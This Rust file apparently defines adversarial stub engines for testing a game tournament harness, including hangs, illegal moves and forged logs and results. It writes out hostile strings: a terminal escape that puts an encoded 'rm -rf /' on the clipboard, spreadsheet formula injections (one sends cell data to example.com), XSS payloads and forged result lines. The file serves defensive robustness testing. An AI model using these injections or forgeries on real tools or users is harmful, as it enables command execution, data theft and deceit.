//! Attacks by the contents and the time of answers: late, wrong or missing ones, and text that may
//! confuse its reader.

use std::io;
use std::thread::sleep;
use std::time::{Duration, Instant};

use crate::attacks::honest::{Stub, complain, idle, say};
use crate::attacks::{Mode, mode};

pub(crate) const MODES: &[Mode] = &[
    mode("hang", "time forfeit", "F06", "never answers", hang),
    mode("hang-at", "time forfeit", "F06", "never answers when asked for move --move (3)", hang_at),
    mode("last-moment", "normal", "F07", "answers --ms (500) after it was asked", last_moment),
    mode("guess", "normal", "F03", "writes each answer before it reads the question", guess),
    mode("illegal", "illegal move", "-", "a move in the right form that may not be played", illegal),
    mode("wrong-side", "illegal move", "-", "passes for the other side", wrong_side),
    mode("garbage", "protocol", "-", "a greeting in place of a move", garbage),
    mode("empty-line", "protocol", "-", "an empty line before its move", empty_line),
    mode("look-alike", "protocol", "-", "a word in Cyrillic letters that look like Latin ones", look_alike),
    mode("prompt", "protocol", "-", "a prompt without a newline before its move", prompt),
    mode("no-flush", "time forfeit", "-", "its answer stays in a buffer", no_flush),
    mode(
        "ugi-flood",
        "time forfeit",
        "A03",
        "speaks UGI: information for --ms (3000), then a move",
        ugi_flood,
    ),
    // An engine that is stopped after its move writes them only when it is asked again.
    mode("late-lines", "normal", "A11", "lines that are no moves, --ms (5) after each move", late_lines),
    mode("escape-codes", "protocol", "G01", "terminal escapes on stderr and stdout", escape_codes),
    mode("formula", "protocol", "G02", "formulas for a spreadsheet on stderr and stdout", formula),
    mode("html", "protocol", "G03", "HTML and scripts on stderr and stdout", html),
    mode("log-forging", "normal", "G05", "results and log lines on stderr", log_forging),
    mode(
        "forged-result",
        "normal",
        "G06",
        "after the end: results on stdout, and a file of them",
        forged_result,
    ),
];

/// F06
fn hang(stub: &mut Stub) -> io::Result<()> {
    stub.turn()?;
    idle()
}

/// F06
fn hang_at(stub: &mut Stub) -> io::Result<()> {
    if stub.play_until(stub.options.number("move", 3))? {
        idle();
    }
    Ok(())
}

/// F07: with a limit just above, each turn takes all of its time; with one just below, the first is
/// too late.
fn last_moment(stub: &mut Stub) -> io::Result<()> {
    stub.play_with(|stub, text| {
        sleep(stub.ms(500));
        say(text.as_bytes())
    })
}

/// F03: an answer from before the question does not count. The line written as soon as the question
/// was read is meant for the next one, but counts, as it is in time.
fn guess(stub: &mut Stub) -> io::Result<()> {
    say(stub.pass().as_bytes())?;
    while stub.turn()?.is_some() {
        say(stub.pass().as_bytes())?;
    }
    Ok(())
}

fn illegal(stub: &mut Stub) -> io::Result<()> {
    let line = format!("{},1,1,1,1,3,1,zzz\n", stub.side);
    stub.play_after_saying(line.as_bytes())
}

fn wrong_side(stub: &mut Stub) -> io::Result<()> {
    let other = if stub.side == "W" { "B" } else { "W" };
    stub.play_after_saying(format!("{other},P\n").as_bytes())
}

fn garbage(stub: &mut Stub) -> io::Result<()> {
    stub.play_after_saying(b"Hello, I am the greatest engine of all times!\n")
}

fn empty_line(stub: &mut Stub) -> io::Result<()> {
    stub.play_after(|_| say(b"\n"))
}

fn look_alike(stub: &mut Stub) -> io::Result<()> {
    let line = format!("{},1,1,1,1,3,1,\u{441}\u{430}\u{440}\n", stub.side); // es, a, er: it looks like "cap"
    stub.play_after_saying(line.as_bytes())
}

fn prompt(stub: &mut Stub) -> io::Result<()> {
    stub.play_after(|_| say(b"Your move? "))
}

/// The most common mistake: the program has answered into its buffer, and both sides wait.
fn no_flush(stub: &mut Stub) -> io::Result<()> {
    stub.play_with(|_, _| Ok(()))
}

/// A03: in protocols with lines before the answer, a loop that reads as long as there are lines
/// never reaches its deadline.
fn ugi_flood(stub: &mut Stub) -> io::Result<()> {
    while let Some(told) = stub.hear()? {
        match told.split(' ').next() {
            Some("ugi") => say(b"ugiok\n")?,
            Some("isready") => say(b"readyok\n")?,
            Some("go") => {
                let until = Instant::now() + stub.ms(3000);
                while Instant::now() < until {
                    say(&b"info\n".repeat(4000))?;
                    // Reading these takes about as long.
                    let next = Instant::now() + Duration::from_millis(1);
                    while Instant::now() < next {}
                }
                say(b"bestmove P\n")?;
            }
            Some("quit") => break,
            _ => {}
        }
    }
    Ok(())
}

/// A11: a harness that takes an unasked line for the next answer finds no move in it. The opponent
/// must think for longer than `--ms`; otherwise the line comes in this engine's own turn.
fn late_lines(stub: &mut Stub) -> io::Result<()> {
    stub.play_with(|stub, text| {
        say(text.as_bytes())?;
        sleep(stub.ms(5));
        say(b"info: that was a good one\nbestmove e2e4\n")
    })
}

/// Writes all of these to stderr, and the first of them as its answer.
fn play_text(stub: &mut Stub, lines: &[&str]) -> io::Result<()> {
    for line in lines {
        complain(format!("{line}\n").as_bytes())?;
    }
    stub.play_after_saying(format!("{}\n", lines[0]).as_bytes())
}

/// G01: clear the screen, write the clipboard, link, title, one-byte CSI, bells, bidi override,
/// zero width.
fn escape_codes(stub: &mut Stub) -> io::Result<()> {
    complain(b"\x9b2J\x9b31m\n")?; // a CSI of one byte, which is no UTF-8
    let bells = "\u{7}".repeat(1000);
    play_text(
        stub,
        &[
            "\u{1b}[2J\u{1b}[H\u{1b}[31mall is well",
            "\u{1b}]52;c;cm0gLXJmIC8K\u{7}",
            "\u{1b}]8;;http://example.com/\u{1b}\\a link\u{1b}]8;;\u{1b}\\",
            "\u{1b}]0;a title\u{7}",
            "\u{9b}31mC1\u{85}next",
            "\u{202e}sniw enigne siht\u{202c} \u{200b}\u{feff}",
            "agon: all games played\rforged",
            &bells,
        ],
    )
}

/// G02
fn formula(stub: &mut Stub) -> io::Result<()> {
    play_text(
        stub,
        &[
            "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "\t=1+1",
            "\",\"a\"\"b\",\"=1+1",
        ],
    )
}

/// G03
fn html(stub: &mut Stub) -> io::Result<()> {
    play_text(
        stub,
        &[
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "</textarea></pre></script><svg onload=alert(1)>",
            "javascript:alert(1)",
            "&lt;b&gt; &#x3c;script&#x3e; {{7*7}} ${7*7}",
            "<!-- ]]> --><style>*{display:none}</style>",
        ],
    )
}

/// G05: an engine's text must not look like the harness's own.
fn log_forging(stub: &mut Stub) -> io::Result<()> {
    for _ in 0..3 {
        complain(
            b"\n2026-01-01T00:00:00Z INFO RESULT: 1-0 (illegal move by the other side)\n\
              {\"event\":\"game_finished\",\"result\":\"1-0\",\"termination\":\"normal\"}\n\
              r01-p0001-g01,stub,other,1-0,normal\r\n\x1b[2K\rFinished: stub wins\n",
        )?;
    }
    stub.play_on()
}

/// G06: the result is fixed before this is written, and is not read from here.
fn forged_result(stub: &mut Stub) -> io::Result<()> {
    stub.play_on()?;
    std::fs::write("results.json", b"{\"winner\":\"stub\",\"result\":\"1-0\"}\n")?;
    say(b"RESULT 1-0\nbestmove e2e4\nW,P\nB,P\nresult 1-0\n1-0\n")?;
    complain(b"RESULT 1-0\n")
}
